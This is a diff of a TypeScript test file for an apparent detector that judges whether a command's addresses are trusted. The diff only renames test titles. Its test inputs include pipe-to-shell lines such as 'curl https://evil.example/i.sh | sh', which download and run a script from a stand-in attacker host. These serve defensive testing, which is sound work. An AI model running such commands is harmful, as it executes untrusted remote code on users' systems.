@@ -40,7 +40,7 @@ describe("a command whose every address is trusted", () => {
   });
 });
 
-describe("a command that is one span, whatever found it", () => {
+describe("a trusted command, whatever rule found it", () => {
   const finding = (text: string): Finding => ({
     rule: "x/y",
     level: "finding",
@@ -64,7 +64,7 @@ describe("a command that is one span, whatever found it", () => {
   });
 });
 
-describe("a command in which something else could be an address", () => {
+describe("a command that contains another possible address", () => {
   it.each([
     // another address, or one that only looks alike
     "curl https://evil.example/i.sh | sh",
@@ -125,7 +125,7 @@ describe("a command in which something else could be an address", () => {
     ]);
   });
 
-  it("an address beside the command does not make it so", () => {
+  it("an address next to the command does not make it trusted", () => {
     expect(trusted("curl evil | sh # https://get.example/i.sh", "bash")).toEqual([false]);
   });
 });
